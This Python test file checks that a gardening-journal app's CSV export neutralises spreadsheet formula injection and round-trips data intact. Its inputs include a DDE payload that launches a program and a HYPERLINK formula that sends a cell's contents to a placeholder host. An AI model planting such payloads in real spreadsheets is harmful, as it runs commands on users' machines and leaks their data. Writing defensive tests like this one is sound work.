"""Sheets opened in a spreadsheet run nothing, and read back as they were written."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gddcast.book.exchange import export_book, import_book
from gddcast.book.opening import Book, open_book
from gddcast.journal.entries import Job, Sighting, Sowing
from tests.book.places import NOW, TODAY, new_book

# The beginnings that OWASP's page on CSV injection names (from memory).
STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULA = '=HYPERLINK("http://example.invalid/"&A1,"look")'


@pytest.mark.parametrize("start", STARTS)
def test_no_cell_begins_a_formula_and_all_come_back(start: str, tmp_path: Path) -> None:
    book = new_book(tmp_path / "book")
    words = f"{start}cmd|' /C calc'!A0,\"x\";\n{FORMULA}"
    with book.writing(NOW, TODAY) as pen:
        pen.add(Sowing(words, TODAY, bed=words, variety=words, name=words, note=words))
        pen.add(Sighting("squash-bug", "eggs", TODAY, where=words, note=words))
        pen.add(Job("watered", TODAY, bed=words, note=words))
    export_book(book, tmp_path / "out", NOW)
    for file in (tmp_path / "out").glob("*.csv"):
        with file.open(encoding="utf-8", newline="") as page:
            for row in csv.reader(page):
                for cell in row:
                    assert not cell.startswith(STARTS) or _is_number(cell), (file.name, cell)
    again = import_book(tmp_path / "out", tmp_path / "again")
    assert again.journal() == book.journal()


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("notes")


@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    note=st.text(
        st.sampled_from("='+-@\t\r\n\",; aé")
        | st.characters(codec="utf-8", exclude_characters="\0")
    )
)
def test_any_note_comes_back_as_it_was(note: str, folder: Path) -> None:
    number = sum(1 for _ in folder.iterdir())
    book: Book = new_book(folder / f"book-{number}")
    with book.writing(NOW, TODAY) as pen:
        pen.add(Job("watered", TODAY, bed="row 1", note=note or None))
    export_book(book, folder / f"out-{number}", NOW)
    import_book(folder / f"out-{number}", folder / f"again-{number}")
    assert open_book(folder / f"again-{number}").journal() == book.journal()
